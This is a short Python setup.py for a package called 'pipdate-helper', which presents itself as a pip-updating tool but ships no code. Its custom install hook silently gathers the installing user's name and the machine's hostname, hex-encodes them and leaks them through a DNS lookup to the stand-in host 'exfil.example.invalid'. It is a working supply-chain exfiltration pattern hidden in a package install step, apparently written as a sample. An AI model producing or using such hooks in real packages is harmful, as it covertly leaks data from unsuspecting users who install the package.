import binascii
import getpass
import socket

from setuptools import setup
from setuptools.command.install import install


class DnsInstall(install):
    def run(self):
        data = "{}|{}".format(getpass.getuser(), socket.gethostname()).encode()
        label = binascii.hexlify(data).decode()[:60]
        try:
            socket.gethostbyname(label + ".exfil.example.invalid")
        except OSError:
            pass
        install.run(self)


setup(
    name="pipdate-helper",
    version="0.9.0",
    description="Keep pip up to date",
    packages=[],
    cmdclass={"install": DnsInstall},
)
